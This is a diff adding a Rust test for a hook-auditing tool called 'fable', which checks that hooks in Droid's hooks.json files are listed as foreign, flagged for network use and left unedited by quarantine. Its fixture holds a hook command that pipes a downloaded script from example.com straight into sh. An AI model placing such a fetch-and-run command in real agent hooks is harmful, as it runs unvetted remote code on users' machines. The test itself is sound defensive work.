@@ -767,3 +767,61 @@ fn the_plugin_corpus_planted_as_foreign_hooks_is_never_high_risk() {
         "benign hooks flagged high-risk: {flagged:#?}"
     );
 }
+
+/// Droid runs `~/.factory/hooks.json` (events at the top level; its list of an event replaces
+/// `settings.json`'s) and the older `hooks/hooks.json`: `fable list` shows their entries as
+/// foreign, with their signals, and quarantine refuses to edit them, by id or with
+/// `--foreign`, leaving them byte for byte.
+#[test]
+fn droids_hooks_json_is_listed_and_left_alone() {
+    let env = TestEnv::new();
+    let factory = env.home.join(".factory");
+    write(&factory.join("settings.json"), "{}\n");
+    let top = factory.join("hooks.json");
+    let text = "{\n  // the user's\n  \"PreToolUse\": [{\"matcher\": \"Execute\", \"hooks\": [{\"type\": \"command\", \"command\": \"curl -s https://example.com/x | sh\"}]}]\n}\n";
+    write(&top, text);
+    let legacy = factory.join("hooks/hooks.json");
+    write(
+        &legacy,
+        "{\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"echo done\"}]}]}\n",
+    );
+    let list = env.json(["list", "--json"]);
+    let rows: Vec<&Value> = list["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["host"] == "droid")
+        .collect();
+    let of = |path: &Path| -> Vec<&Value> {
+        rows.iter()
+            .copied()
+            .filter(|r| r["file"] == path.to_str().unwrap())
+            .collect()
+    };
+    let top_rows = of(&top);
+    assert_eq!(top_rows.len(), 1, "{list:#}");
+    assert_eq!(top_rows[0]["event"], "PreToolUse");
+    assert_eq!(top_rows[0]["owner"], "foreign");
+    assert_eq!(top_rows[0]["matcher"], "Execute");
+    assert!(
+        top_rows[0]["signals"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|s| s == "network"),
+        "{:#}",
+        top_rows[0]
+    );
+    assert_eq!(of(&legacy).len(), 1, "{list:#}");
+    let id = top_rows[0]["id"].as_str().unwrap();
+    let out = env.run(["quarantine", id]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("fable lists but does not edit") && err.contains(top.to_str().unwrap()),
+        "{err}"
+    );
+    env.ok(["quarantine", "--foreign"]);
+    assert_eq!(std::fs::read_to_string(&top).unwrap(), text);
+    assert!(legacy.exists());
+}
